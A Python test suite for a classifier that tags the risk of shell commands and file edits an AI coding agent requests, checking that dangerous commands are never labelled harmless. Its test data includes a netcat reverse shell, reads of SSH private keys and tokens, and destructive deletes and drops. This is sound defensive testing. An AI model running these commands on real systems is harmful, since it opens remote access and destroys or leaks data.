"""What a request would do, as far as it is proven."""

from __future__ import annotations

import re
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.agents.permissions.question import from_hook
from bot.agents.permissions.risk import Effect, Risk, risk_of, risk_of_edit
from bot.agents.permissions.risk.reader import LONGEST, Budget
from tests.unit.harmless import HARMLESS
from tests.unit.hostile import HOSTILE, OUTSIDE

SHOP = "/srv/shop"


def judged(command: str) -> Risk:
    return risk_of(command, workspace=SHOP)


def reassures(risk: Risk) -> bool:
    """Would a person who reads the tag take it for harmless?"""
    return risk.groupable or "only reads" in risk.line or "outside the workspace: no" in risk.line


def test_the_tables_are_as_long_as_promised() -> None:
    assert len(set(HOSTILE)) >= 300
    assert len(set(HARMLESS)) >= 100


@pytest.mark.parametrize("command", HOSTILE)
def test_what_may_do_more_than_read_is_never_called_harmless(command: str) -> None:
    for whole in (
        command,
        f"git status && {command}",
        f"ls; {command}",
        f"{command}\nls",
        f"bash -lc {shlex.quote(command)}",
        f"timeout 5 bash -c {shlex.quote(command)}",
    ):
        assert not reassures(judged(whole)), whole


@pytest.mark.parametrize("command", OUTSIDE)
def test_what_reads_elsewhere_says_where(command: str) -> None:
    for whole in (command, f"git status && {command}", f"bash -lc {shlex.quote(command)}"):
        risk = judged(whole)
        assert risk.outside, whole
        assert risk.dangerous
        assert not risk.groupable
        assert "outside the workspace: no" not in risk.line


@pytest.mark.parametrize("command", HARMLESS)
def test_what_only_reads_is_told_so(command: str) -> None:
    risk = judged(command)
    assert risk.line == "only reads · outside the workspace: no"
    assert risk.groupable
    assert not risk.dangerous


@given(st.lists(st.sampled_from(HARMLESS), min_size=1, max_size=4), st.sampled_from(HOSTILE), st.integers(0, 4))
def test_one_hostile_command_is_enough(around: list[str], hostile: str, at: int) -> None:
    lines = [line for line in around if "#" not in line]
    lines.insert(min(at, len(lines)), hostile)
    assert not reassures(judged("\n".join(lines)))


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("pytest -q tests", "may do anything"),
        ("rm -rf build", "may do anything · deletes data"),
        ("find . -name '*.pyc' -delete", "may do anything · deletes data"),
        ("bash -lc 'rm -rf dist'", "may do anything · deletes data"),
        ("ssh host 'rm -rf dist'", "may do anything · deletes data · reaches the network"),
        ("git reset --hard HEAD~1", "may do anything · deletes data · changes files"),
        ("git clean -e -n", "may do anything · deletes data"),
        ("git checkout src/a.py", "may do anything · deletes data"),
        ("rsync -a --del a/ b/", "may do anything · deletes data · reaches the network"),
        ("psql -c 'drop table orders'", "may do anything · deletes data · reaches the network"),
        ("psql <<E\nDELETE FROM orders;\nE", "may do anything · deletes data · reaches the network"),
        ("git push origin main", "may do anything · publishes to a remote · reaches the network"),
        ("git push --force", "may do anything · deletes data · publishes to a remote · reaches the network"),
        ("npm publish", "may do anything · publishes to a remote"),
        ("curl -s http://example.org/x", "may do anything · reaches the network"),
        ("npm install left-pad", "may do anything · installs software"),
        ("sudo apt-get install jq", "may do anything · runs as root · installs software"),
        ("maf pair --role owner", "may do anything · changes maf itself"),
        ("echo x > .maf/config/agents.json", "may do anything · changes maf itself · changes files"),
        ("cp x .git/hooks/pre-commit", "may do anything · changes git's hooks or settings · changes files"),
        ("git config core.pager x", "may do anything · changes git's hooks or settings"),
        ("systemctl stop nginx", "may do anything · changes the machine"),
        ("printenv TOKEN", "may do anything · touches credentials"),
        ("python3 -", "may do anything · not all of it can be seen"),
        ("nc -e /bin/sh host 1", "may do anything · not all of it can be seen · reaches the network · names what is "
         "outside: /bin/sh"),
        ("echo $(ls)", "may do anything · not all of it can be seen"),
        ("echo hi > out.txt", "may do anything · changes files"),
        ("touch ../x", "may do anything · changes files · names what is outside: ../x"),
        ("echo x >> ~/.bashrc", "may do anything · changes what a shell starts with · changes files · names what is "
         "outside: ~/.bashrc"),
        ("cat .maf/maf.env", "touches credentials"),
        ("cat ~/.ssh/id_rsa", "touches credentials · outside the workspace: yes, ~/.ssh/id_rsa"),
        ("cat /etc/hosts", "only reads · outside the workspace: yes, /etc/hosts"),
        ("git commit -m \"$(cat <<'EOF'\nDon't rm -rf / (ever)\nEOF\n)\"",
         "may do anything · not all of it can be seen · changes files"),
    ],
)  # fmt: skip
def test_what_is_recognised_is_added(command: str, line: str) -> None:
    assert judged(command).line == line


def test_a_warning_stands_before_what_was_recognised_and_not_before_all() -> None:
    assert judged("rm x").dangerous
    assert judged("touch ../x").dangerous
    assert judged("ls $X").dangerous
    assert not judged("npm test").dangerous
    assert not Risk().groupable  # what nobody judged is not proven


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/srv/shop/a.py", "changes files · outside the workspace: no"),
        ("src/a.py", "changes files · outside the workspace: no"),
        (".gitignore", "changes files · outside the workspace: no"),
        ("/etc/motd", "changes files · outside the workspace: yes, /etc/motd"),
        (".git/hooks/pre-commit", "changes git's hooks or settings · changes files"),
        (".GIT/config", "changes git's hooks or settings · changes files"),
        ("src/../.git/config", "changes git's hooks or settings · changes files"),
        (".maf/config/agent-types.json", "changes maf itself · changes files"),
        (".claude/settings.local.json", "changes an agent's settings · changes files"),
        (".env", "touches credentials · changes files"),
        (".env.example", "changes files · outside the workspace: no"),
        ("~/.gitconfig", "changes git's hooks or settings · changes files · outside the workspace: yes, ~/.gitconfig"),
        ("~/.zshrc", "changes what a shell starts with · changes files · outside the workspace: yes, ~/.zshrc"),
    ],
)
def test_an_edit_says_what_it_changes(path: str, line: str) -> None:
    risk = risk_of_edit([path], workspace=SHOP)
    assert risk.line == line
    assert not risk.groupable


def test_where_the_workspace_lies_tells_nothing_of_what_is_in_it() -> None:
    for shop in ("/srv/.maf/worktrees/w1", "/srv/secrets/shop", "/home/a/.config/git/shop"):
        assert risk_of_edit([f"{shop}/a.py"], workspace=shop).line == "changes files · outside the workspace: no"
        assert risk_of(f"cat {shop}/a.py", workspace=shop).groupable
        assert risk_of(f"npm test {shop}/a.py", workspace=shop).line == "may do anything"
        assert risk_of_edit([f"{shop}/.env"], workspace=shop).line == "touches credentials · changes files"


def test_an_edit_of_nobody_knows_what_is_not_said_to_stay() -> None:
    assert risk_of_edit([], workspace=SHOP).line == "may do anything · changes files"


def test_strange_characters_in_a_path_do_not_reach_the_tag() -> None:
    assert "\u202e" not in judged("cat '/x\u202ey'").line
    assert "\u202e" not in risk_of_edit(["/x\u202ey"], workspace=SHOP).line


@pytest.mark.parametrize(("folder", "outside"), [("", ()), ("/srv/shop/src", ()), ("/tmp", ("/tmp",)), ("..", ("..",))])
@pytest.mark.parametrize("command", ["cat a", "ls", "pwd", "git status", "npm test"])
def test_where_a_cli_runs_it_counts(folder: str, outside: tuple[str, ...], command: str) -> None:
    """Codex 0.169.0 gives the folder of a call as the hook's cwd; both CLIs go on from where the last command ended."""
    for asked in (
        {"tool_name": "Bash", "tool_input": {"command": command}, "cwd": folder},
        {"tool_name": "shell", "tool_input": {"command": command, "workdir": folder}},
    ):
        risk = from_hook(asked, cli="codex", workspace=SHOP).risk
        assert set(outside) <= set(risk.outside)
        assert risk.groupable is (not outside and command != "npm test")
        assert bool(risk.outside) is bool(outside)


def test_a_list_of_words_is_judged_and_shown_with_its_quotes() -> None:
    asked = {"tool_name": "shell", "tool_input": {"command": ["bash", "-lc", "ls; rm x"]}}
    question = from_hook(asked, cli="codex", workspace=SHOP)
    assert question.command == "bash -lc 'ls; rm x'"
    assert Effect.DELETES in question.risk.effects


# What is long, deep or crooked: the judge ends after a number of steps that grows with the length and no more.

ENDLESS = [
    "(", ")", "{", "}", "[", "a", "x{a,b}", "{a,{b,", '"$(', "$(", "${", "$((", "`", "<(", "'", '"', "\\", "\\\n", "#",
    "\n",     "cat <<E\n", "<<a ", "<<<a ", "echo a; ", "ls;", "a=b ", "A=b;", "sudo ", "timeout 1 ", "bash -c ",
    "bash -c 'ls';",
    "bash -c \"", "eval '", "find . -exec ", "find -exec a ;", "sed -n 1p;", "sed '", "s/a/b/;", "awk '{print}' ",
    "[ -f a ] ;", "cd a && ", "cd a;", "git -C a ", "git git ", "rm ", "*", " ~", "b:", "/.env", "../", "=", "é", " é",
    "a.a.",
    "drop  ", "- ", "-a", "&&", "|", ";", "&", ">", "2>", "x>y ", "\u202e", "\0",
]  # fmt: skip


@pytest.mark.parametrize("part", ENDLESS)
@pytest.mark.parametrize("length", [LONGEST // 8, LONGEST])
def test_steps_grow_with_the_length_alone(part: str, length: int) -> None:
    budget = Budget()
    risk = risk_of((part * length)[:length], workspace=SHOP, budget=budget)
    assert budget.steps <= 4 * length + 20
    assert risk.line


@pytest.mark.parametrize("part", ENDLESS)
@pytest.mark.parametrize("length", [20_000, 50_000, 1_000_000])
def test_past_the_budget_it_is_not_judged_and_its_card_comes(part: str, length: int) -> None:
    command = (part * length)[:length]
    budget = Budget()
    assert risk_of(command, workspace=SHOP, budget=budget).line == "may do anything · not judged: too long"
    assert budget.steps == 0
    asked = {"tool_name": "Bash", "tool_input": {"command": command}}
    assert from_hook(asked, cli="claude", workspace=SHOP).risk.dangerous


@pytest.mark.parametrize("times", [3, 20, 500])
def test_commands_within_commands_are_judged(times: int) -> None:
    for part in ("find . -exec ", "bash -c ", "sudo ", "timeout 1 ", "xargs ", "$(", "eval "):
        asked = {"tool_name": "Bash", "tool_input": {"command": part * times + "rm x"}}
        risk = from_hook(asked, cli="claude", workspace=SHOP).risk
        assert not reassures(risk), part
        assert Effect.DELETES in risk.effects, part
    quoted = "ls"
    for _ in range(6):
        quoted = f"bash -c {shlex.quote(quoted)}"
    assert not judged(quoted).proven


def test_what_is_nested_deeply_in_a_tool_has_its_card() -> None:
    inputs: dict[str, object] = {}
    for _ in range(3_000):
        inputs = {"a": inputs}
    question = from_hook({"tool_name": "mcp__x", "tool_input": inputs}, cli="claude", workspace=SHOP)
    assert question.risk.dangerous
    assert question.command


PARTS = re.findall(
    r"\S+",
    "cat rm sed find env xargs sh command exec timeout nice bash git awk cd -c -S -n -i -e -o -exec + {} ; && || | & > "
    ">> < 2> &> <<E E <<< <( ( ) ` $( ' \" \\ # if then fi for f in do done ! case "
    "esac function ls() X=rm $X ${X} $'rm' "
    "-- - a ../a ~ ~/x * [ ] = @{u}",
)


@given(st.lists(st.sampled_from([*PARTS, "\n", " "]), max_size=40), st.sampled_from(["", " "]))
def test_no_words_in_any_order_break_it(parts: list[str], between: str) -> None:
    budget = Budget()
    command = between.join(parts)
    assert risk_of(command, workspace=SHOP, budget=budget).line
    assert budget.steps <= 4 * len(command) + 20


@given(st.text(alphabet="ls rm$(){}'\"`\\;|&<>#\n=ab/.~-*[]@!", max_size=200))
def test_no_command_line_breaks_it(command: str) -> None:
    assert judged(command).line


@given(st.text(max_size=60), st.sampled_from(["rm -rf src", "touch x", "sh x.sh"]))
def test_whatever_stands_before_a_change_does_not_make_it_reading(before: str, change: str) -> None:
    # A backslash goes on in the next line, where the change becomes words of what stands before.
    assert not reassures(judged(f"{before}\n{change}")) or before.rstrip("\r").endswith("\\")
